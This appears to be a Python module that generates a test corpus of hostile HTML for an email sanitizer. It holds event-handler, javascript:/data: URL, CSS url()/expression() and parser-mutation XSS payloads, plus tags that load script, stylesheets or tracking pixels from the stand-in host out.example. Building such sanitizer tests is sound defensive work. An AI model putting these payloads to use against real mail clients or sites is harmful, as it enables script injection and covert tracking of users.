"""Hostile HTML, generated: every way to run, call out, navigate or overlay that a mail has been seen to try."""

from itertools import product

OUT = "http://out.example"
_RUN = "alert(1)"

_ELEMENTS = [
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe", "object data=x",
    "select autofocus", "textarea autofocus", "a tabindex=1 autofocus", "div contenteditable autofocus", "style", "link rel=stylesheet href=x",
    "embed src=x", "form", "button autofocus", "keygen autofocus", "frameset", "table", "image src=x", "isindex", "math", "p", "xss",
]  # fmt: skip
_EVENTS = ["onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "OnMouseOver", "onpageshow", "onbegin"]
_SPACES = [" ", "/", "\t", "\n", "\x0c", " x=y ", "\x00 "]

_SCHEMES = [
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}", "java&#9;script:{run}",
    "&#106;avascript:{run}", "&#x6A;avascript&colon;{run}", "\x01javascript:{run}", "javascript&Tab;:{run}", "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", "blob:x", "file:///etc/passwd", "//out.example/x",
    "feed:javascript:{run}", "view-source:x", "\u0000javascript:{run}", "javascript://%0a{run}", "http://out.example/x", "/relative", "cid:javascript:{run}",
]  # fmt: skip
_CARRIERS = [
    '<a href="{url}">x</a>', "<a href='{url}'>x</a>", '<img src="{url}">', '<iframe src="{url}"></iframe>', '<form action="{url}"><button>x</form>',
    '<meta http-equiv="refresh" content="0;url={url}">', '<base href="{url}"><a href="x">y</a>', '<object data="{url}"></object>',
    '<embed src="{url}">', '<body background="{url}">', '<table background="{url}"><td>x</td></table>', '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<link rel="stylesheet" href="{url}">', '<video poster="{url}"></video>', '<math href="{url}">x</math>', '<area href="{url}">',
]  # fmt: skip

_STYLES = [
    "background:url({url})", "background-image:url('{url}')", "background:u\\72l({url})", "background:/**/url({url})", "list-style:url({url})",
    "content:url({url})", "cursor:url({url}),auto", "border-image:url({url})", "mask:url({url})", "background:image-set('{url}' 1x)",
    "width:expression(alert(1))", "behavior:url({url})", "-moz-binding:url({url})", "--x:url({url});background:var(--x)",
    "color:red;}}*{{background:url({url})", "position:fixed;top:0;left:0;width:100%;height:100%", "font:url({url})", "color:URL({url})",
    "background:\\75\\72\\6c({url})", "background:src({url})", "filter:url({url})", "shape-outside:url({url})",
]  # fmt: skip

_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<template><script>alert(1)</script></template>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", '<?xml version="1.0"?><img src=x onerror=alert(1)>', "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">', "<<script>alert(1)//<</script>",
    "<script>alert(1)", "<script src=http://out.example/x.js>", "<script/src=//out.example>", "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    "<style>@import 'http://out.example/x.css';</style>", "<style>*{background:url(http://out.example/y)}</style>", "<style>@font-face{src:url(http://out.example/f)}p{}",
    '<img srcset="http://out.example/s 1x">', "<picture><source srcset=http://out.example/p><img></picture>", "<img lowsrc=http://out.example/l dynsrc=http://out.example/d>",
    "<link rel=prefetch href=http://out.example/pre>", "<link rel=dns-prefetch href=//out.example>", "<a href=http://ok.example ping=http://out.example/ping>x</a>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe srcdoc='<img src=x onerror=parent.alert(1)>'>", "<portal src=http://out.example>",
    "<input type=image src=http://out.example/i onerror=alert(1)>", "<audio src=http://out.example/a autoplay>", "<video><source src=http://out.example/v onerror=alert(1)></video>",
    "<track src=http://out.example/t>", "<bgsound src=http://out.example/b>", "<applet code=x archive=http://out.example/x.jar>", "<object type=text/html data=http://out.example>",
    "<select><noembed></select><script>alert(1)</script></noembed>", "<title></title><img src=x onerror=alert(1)></title>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<noframes><img src=x onerror=alert(1)></noframes>", "<p id=x name=y style='x:y' class='</style><script>alert(1)</script>'>",
    '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>', '<img alt="<script>alert(1)</script>" src=cid:a>', "<img src='cid:\"><script>alert(1)</script>'>",
    '<img src="cid:x&quot; onerror=&quot;alert(1)">', '<img src="http://out.example/&quot; onerror=&quot;alert(1)">', "<b title='\" src=\"http://out.example/t'>x</b>",
    "<img title='<img src=\"http://out.example/q\">' src=cid:z>", "<dialog open><form method=dialog><img src=x onerror=alert(1)>", "<slot><img src=x onerror=alert(1)>",
]  # fmt: skip


def vectors() -> list[str]:
    """Every vector, each once, always in the same order."""
    handlers = [
        f"<{element.partition(' ')[0]}{space}{element.partition(' ')[2]} {event}={_RUN}>"
        for (number, element), event in product(enumerate(_ELEMENTS), _EVENTS)
        for space in (_SPACES[number % len(_SPACES)],)
    ]
    urls = [carrier.format(url=scheme.format(run=_RUN)) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
    styles = [f'<p style="{style.format(url=OUT)}">x</p>' for style in _STYLES]
    sheets = [f"<style>p{{{style.format(url=OUT)}}}</style><p>x</p>" for style in _STYLES]
    return list(dict.fromkeys([*handlers, *urls, *styles, *sheets, *_MUTATIONS]))
